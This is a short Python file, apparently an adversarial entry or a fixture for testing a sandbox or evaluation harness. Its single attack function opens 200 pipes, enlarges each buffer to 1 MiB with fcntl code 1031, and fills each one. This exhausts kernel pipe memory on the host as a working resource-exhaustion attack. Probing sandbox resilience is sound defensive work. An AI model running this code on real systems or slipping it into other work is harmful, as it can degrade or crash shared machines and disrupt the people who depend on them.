"""Fills as many pipes as it can open."""

import fcntl
import os


def attack(name, *args, **kwargs):
    for _ in range(200):
        _, write = os.pipe()
        fcntl.fcntl(write, 1031, 1 << 20)
        os.set_blocking(write, False)
        os.write(write, bytes(1 << 20))
    return 0.0
